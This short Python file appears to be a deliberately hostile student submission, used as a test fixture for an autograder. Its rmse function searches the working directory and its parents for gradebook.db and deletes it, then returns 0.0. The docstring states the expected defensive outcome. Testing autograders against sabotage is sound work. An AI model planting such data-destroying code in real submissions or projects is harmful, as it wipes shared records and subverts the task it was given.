"""A hostile answer: it deletes the course's gradebook when its tests call it.

The autograder must restore the gradebook (every other student keeps their grades)
and give this submission 0 on every test cell.
"""

import pathlib


def rmse(y_true, y_pred):
    for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]:
        gradebook = folder / "gradebook.db"
        if gradebook.exists():
            gradebook.unlink()
            break
    return 0.0
